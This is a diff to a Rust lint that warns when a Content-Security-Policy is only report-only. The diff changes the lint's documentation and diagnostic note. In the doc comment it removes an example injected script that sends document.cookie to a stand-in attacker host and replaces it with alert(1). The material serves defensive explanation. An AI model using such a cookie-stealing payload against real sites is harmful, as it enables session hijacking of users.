@@ -1,3 +1,4 @@
+use crate::csp::attack::INLINE_SCRIPT;
 use crate::diagnostic::Diagnostic;
 use crate::header::Field;
 use crate::lint::report::{Report, lint};
@@ -18,7 +19,7 @@ lint! {
     /// The script runs, and its report arrives afterwards:
     ///
     /// ```html
-    /// <script>fetch("https://evil.example/?" + document.cookie)</script>
+    /// <script>alert(1)</script>
     /// ```
     ///
     /// # Example
@@ -59,6 +60,6 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     report.push(
         Diagnostic::finding(header.span, "this policy is report-only, and no other one is enforced")
             .help("once no more reports arrive, write `content_security_policy`")
-            .note("browsers report an injected script, and run it"),
+            .note(format!("browsers report an injected `{}`, and run it", INLINE_SCRIPT.text)),
     );
 }
